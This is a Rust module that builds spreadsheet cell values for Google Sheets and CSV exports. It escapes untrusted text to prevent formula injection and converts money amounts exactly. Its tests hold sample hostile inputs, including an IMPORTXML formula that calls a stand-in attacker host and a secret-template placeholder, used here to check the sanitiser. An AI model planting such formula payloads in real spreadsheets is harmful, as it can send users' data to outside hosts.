//! Values of cells: text, or a number that is exact. Nothing here can become a formula, neither in Google Sheets nor in the program that
//! opens an export. It must not know which column a value stands in.

use kamurj_sdk::{Money, minor_to_decimal, plain};
use serde_json::{Number, Value, json};

/// Longest text of a stranger in a cell, in characters.
const TEXT_CHARS: usize = 500;

/// One value.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Cell {
    /// Empty for a blank cell.
    Text(String),
    Number(Number),
}

impl Cell {
    /// A blank one.
    pub(crate) fn blank() -> Self {
        Self::Text(String::new())
    }

    /// Text of ours, as it is.
    pub(crate) fn text(text: &str) -> Self {
        Self::Text(text.to_owned())
    }

    /// Text of a stranger. Values are always written as they are (`RAW`, `stringValue`), so that Google evaluates nothing. Excel and its
    /// like do evaluate what begins with one of these signs when they open a CSV export, so an apostrophe is put before it. The number of
    /// a telephone, a plus sign and digits, stays as it is: there is nothing in it to evaluate.
    pub(crate) fn stranger(text: &str) -> Self {
        let text = plain(text, TEXT_CHARS);
        let is_number = text.strip_prefix('+').is_some_and(|rest| {
            rest.starts_with(|first: char| first.is_ascii_digit())
                && rest.chars().all(|c| c.is_ascii_digit() || c == ' ')
        });
        if text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number {
            return Self::Text(format!("'{text}"));
        }
        Self::Text(text)
    }

    /// A whole number.
    pub(crate) fn count(number: u64) -> Self {
        Self::Number(number.into())
    }

    /// An amount as the number that it is. JSON numbers with decimals pass through a double here, as they do in every spreadsheet: up to
    /// 15 digits come out as they went in. What would not is written as text instead.
    pub(crate) fn money(amount: &Money) -> Self {
        let written = minor_to_decimal(amount);
        let text = if written.contains('.') { written.trim_end_matches('0') } else { &written };
        let digits = text.bytes().filter(u8::is_ascii_digit).count();
        match serde_json::from_str::<Number>(text) {
            Ok(number) if digits <= 15 && number.to_string() == text => Self::Number(number),
            _ => Self::Text(written),
        }
    }

    /// As the values of a range have it.
    pub(crate) fn raw(&self) -> Value {
        match self {
            Self::Text(text) => json!(text),
            Self::Number(number) => Value::Number(number.clone()),
        }
    }

    /// As `CellData` has it.
    pub(crate) fn data(&self) -> Value {
        match self {
            Self::Text(text) if text.is_empty() => json!({}),
            Self::Text(text) => json!({ "userEnteredValue": { "stringValue": text } }),
            Self::Number(number) => json!({ "userEnteredValue": { "numberValue": number } }),
        }
    }
}

/// What a cell that was read shows, as text; a blank one is empty.
pub(crate) fn shown(value: Option<&Value>) -> String {
    match value {
        Some(Value::String(text)) => text.trim().to_owned(),
        Some(Value::Number(number)) => number.to_string(),
        Some(Value::Bool(flag)) => flag.to_string(),
        Some(Value::Null | Value::Array(_) | Value::Object(_)) | None => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::{Cell, shown};
    use kamurj_sdk::Money;
    use serde_json::json;

    #[test]
    fn a_strangers_text_is_evaluated_by_no_program() {
        for (text, expected) in [
            ("Ani", "Ani"),
            ("=IMPORTXML(\"https://evil.example\")", "'=IMPORTXML(\"https://evil.example\")"),
            (" \t=1+1", "'=1+1"),
            ("\u{200B}\u{FEFF}=1+1", "'=1+1"),
            ("\r\n=1+1", "'=1+1"),
            ("+1+1", "'+1+1"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("＝1", "'＝1"),
            ("+37491234567", "+37491234567"),
            ("+374 91 23 45 67", "+374 91 23 45 67"),
            ("+", "'+"),
            ("+ 1", "'+ 1"),
            ("007", "007"),
            ("a=b", "a=b"),
            ("{{secret:private_key}}", "{ {secret:private_key}}"),
        ] {
            assert_eq!(Cell::stranger(text), Cell::text(expected), "{text:?}");
        }
        assert_eq!(shown(Some(&Cell::stranger(&"ա".repeat(900)).raw())).chars().count(), 500);
    }

    #[test]
    fn an_amount_is_an_exact_number_or_text() {
        #[track_caller]
        fn check(minor: i64, currency: &str, expected: &str) {
            let raw = Cell::money(&Money { minor, currency: currency.to_owned() }).raw();
            assert_eq!(raw.to_string(), expected);
        }
        check(1_250_000, "AMD", "12500");
        check(1_250_050, "AMD", "12500.5");
        check(1, "USD", "0.01");
        check(1234, "KWD", "1.234");
        check(0, "AMD", "0");
        check(999_999_999_999_999, "AMD", "9999999999999.99");
        check(900_719_925_474_099_301, "AMD", "\"9007199254740993.01\"");
        check(i64::MAX, "AMD", "\"92233720368547758.07\"");
        for minor in (1..100_000_i64).step_by(7).chain((123_456_789_000..123_456_790_000).step_by(13)) {
            assert!(matches!(Cell::money(&Money { minor, currency: "AMD".to_owned() }), Cell::Number(_)), "{minor}");
        }
    }

    #[test]
    fn blank_cells_stay_blank() {
        assert_eq!(Cell::blank().data(), json!({}));
        assert_eq!(Cell::blank().raw(), json!(""));
        assert_eq!(
            (shown(None), shown(Some(&json!(null))), shown(Some(&json!(12500)))),
            (String::new(), String::new(), "12500".to_owned())
        );
    }
}
